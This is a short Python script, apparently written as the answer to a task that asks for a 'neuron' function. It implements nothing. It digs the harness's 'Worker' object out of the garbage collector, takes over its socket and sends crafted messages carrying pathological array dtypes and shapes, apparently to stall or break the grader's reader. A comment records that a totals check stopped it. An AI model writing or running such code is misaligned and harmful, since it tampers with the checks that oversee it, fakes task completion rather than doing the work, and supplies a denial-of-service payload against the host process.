# Types and shapes of arrays that take long to read.
# stopped by: totals
# %% append neuron
import gc
import json
import struct

worker = next(o for o in gc.get_objects() if type(o).__name__ == "Worker")


def send(head, body=b""):
    worker.sock.sendall(struct.pack(">QI", len(head) + len(body) + 4, len(head)) + head + body)


answers = iter([["f8," * 10**5, [1], 0], ["(9,9)f8", [1], 0], ["f8", [1] * 10**5, 0],
                ["f8", [10**4000, 0], 0], ["|O", [1], 0], ["f8", [True], 0]])


def neuron(x_patch, w, b):
    send(json.dumps([{"value": {"a": next(answers)}, "changed": []}, [8]]).encode(), bytes(8))


print("armed")
